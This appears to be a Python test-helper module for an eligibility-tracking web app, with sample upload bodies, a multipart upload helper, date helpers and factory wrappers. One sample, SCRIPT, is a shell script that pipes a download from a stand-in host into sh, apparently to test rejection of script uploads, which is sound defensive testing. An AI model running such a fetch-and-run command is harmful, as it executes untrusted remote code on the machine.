"""The eligibility tests' builders (tracker.factories, committed for use between requests) and
sample upload bodies."""

from __future__ import annotations

import io
from datetime import date
from datetime import timedelta

from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.conftest import csrf_token
from tracker.core.clock import today_in
from tracker.factories import committing
from tracker.factories import eligibility

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< >>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def upload(body: bytes, name: str) -> tuple[io.BytesIO, str]:
    """A file for a multipart form."""
    return io.BytesIO(body), name


def post_multipart_in_memory(client, url: str, data: dict):
    """POST a multipart form built in memory (with a CSRF token).

    The test client spools bodies over 500 KB to a temporary file it never closes, which
    pytest (warnings as errors) reports; a body built here avoids that.
    """
    fields = {
        key: FileStorage(value[0], filename=value[1]) if isinstance(value, tuple) else value
        for key, value in data.items()
    }
    boundary, body = encode_multipart({**fields, "csrf_token": csrf_token(client)})
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def day(offset: int) -> date:
    """A date `offset` days from today (UTC, far enough from any program's midnight)."""
    return today_in("UTC") + timedelta(days=offset)


def iso(offset: int) -> str:
    """The ISO text of `day(offset)`."""
    return day(offset).isoformat()


add_licence = committing(eligibility.add_licence)
add_insurance = committing(eligibility.add_insurance)
add_attestation = committing(eligibility.add_attestation)
add_screening = committing(eligibility.add_screening)
